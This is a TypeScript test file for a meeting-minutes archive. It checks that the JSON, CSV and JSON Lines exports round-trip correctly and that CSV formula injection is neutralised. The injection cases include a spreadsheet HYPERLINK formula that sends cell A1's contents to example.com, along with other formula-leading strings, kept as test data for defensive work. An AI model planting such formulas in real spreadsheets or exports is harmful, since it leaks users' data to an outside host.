/**
 * The whole-archive exports are written in pieces (one per meeting); joined, the pieces must be exactly
 * the documents: JSON equal to the archive object, CSV and JSON Lines that parse back to every row.
 */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { parseMinutes } from '../../src/parser/index.ts';
import { entryId } from '../../src/converter/entry-id.ts';
import { toMeetingRecord, toRemarkRows } from '../../src/exports/open-data.ts';
import { archiveJsonFormat, jsonLinesFormat } from '../../src/exports/json.ts';
import { neutraliseCsvText, remarkCsvFormat } from '../../src/exports/csv.ts';
import { formatChunks } from '../../src/exports/export-format.ts';
import { archiveSchema, remarkColumns, type Archive, type RemarkRow } from '../../src/schemas/open-data.ts';

const SEEDS_DIR = join(import.meta.dirname, '../../seeds');
const links = { meeting: (id: string) => `/minutes/meetings/${id}/`, source: (id: string, file: string) => `/minutes/sources/${id}${file.slice(file.lastIndexOf('.'))}` };
const records = readdirSync(SEEDS_DIR)
	.filter((name) => name.endsWith('.txt'))
	.sort()
	.map((name) => {
		const bytes = readFileSync(join(SEEDS_DIR, name));
		const meeting = parseMinutes(bytes.toString('utf8'), { source: name, sourceHash: createHash('sha256').update(bytes).digest('hex') }).meeting!;
		return toMeetingRecord(entryId(meeting), meeting, links);
	});
const groups = records.map(toRemarkRows);
const rows = groups.flat();

describe('whole-archive exports in pieces', () => {
	test('archive JSON: one piece per record, a comma between two, the opening and closing, joined equal to JSON.stringify', async () => {
		const archive: Archive = { generator: 'minutes-archive', numberOfRecords: records.length, meetingRecord: records };
		const pieces = await Array.fromAsync(formatChunks(archiveJsonFormat({ generator: archive.generator, numberOfRecords: archive.numberOfRecords }), records));
		expect(pieces).toHaveLength(2 * records.length + 1);
		expect(pieces.filter((piece) => piece === ',')).toHaveLength(records.length - 1);
		expect(pieces.join('')).toBe(JSON.stringify(archive));
		expect(archiveSchema.parse(JSON.parse(pieces.join('')))).toEqual(archive);
		const empty: Archive = { generator: 'minutes-archive', numberOfRecords: 0, meetingRecord: [] };
		expect((await Array.fromAsync(formatChunks(archiveJsonFormat({ generator: empty.generator, numberOfRecords: 0 }), []))).join('')).toBe(JSON.stringify(empty));
	});

	test('CSV: BOM and header once, then every row, parsed back field by field', async () => {
		const csv = (await Array.fromAsync(formatChunks(remarkCsvFormat, groups))).join('');
		expect(csv.startsWith(`\uFEFF${remarkColumns.join(',')}\r\n`)).toBe(true);
		const parsed = parseCsv(csv.slice(1), { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
		expect(parsed).toHaveLength(rows.length);
		expect(rows.length).toBeGreaterThan(100);
		for (const [index, row] of rows.entries()) {
			for (const column of remarkColumns) {
				const value = row[column];
				expect(parsed[index]![column], `${index} ${column}`).toBe(value === null ? '' : typeof value === 'number' ? String(value) : neutraliseCsvText(value));
			}
		}
	});

	test('JSON Lines: one object per remark, in order', async () => {
		const lines = (await Array.fromAsync(formatChunks(jsonLinesFormat, groups))).join('').split('\n');
		expect(lines.pop()).toBe('');
		expect(lines.map((line) => JSON.parse(line))).toEqual(rows);
	});
});

describe('CSV formula injection', () => {
	const base = rows[0]!;
	const texts = [
		{ text: '=HYPERLINK("https://example.com/?q="&A1,"詳細")', csv: `'=HYPERLINK("https://example.com/?q="&A1,"詳細")` },
		{ text: '+1+1', csv: "'+1+1" },
		{ text: '-2+3', csv: "'-2+3" },
		{ text: '@SUM(A1:A2)', csv: "'@SUM(A1:A2)" },
		{ text: '\t=1', csv: "'\t=1" },
		{ text: '\r=1', csv: "'\r=1" },
		{ text: '普通の発言 =1', csv: '普通の発言 =1' },
		{ text: "'引用符で始まる", csv: "'引用符で始まる" },
	];

	test.each(texts)('remark $text is written as $csv in the CSV and kept exactly in the JSON Lines', async ({ text, csv }) => {
		const row: RemarkRow = { ...base, text, speaker: text };
		const parsed = parseCsv((await Array.fromAsync(formatChunks(remarkCsvFormat, [[row]]))).join(''), { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
		expect(parsed).toHaveLength(1);
		expect(parsed[0]!['text']).toBe(csv);
		expect(parsed[0]!['speaker']).toBe(csv);
		expect(parsed[0]!['order']).toBe(String(base.order));
		expect(JSON.parse((await Array.fromAsync(formatChunks(jsonLinesFormat, [[row]]))).join(''))).toEqual(row);
	});
});
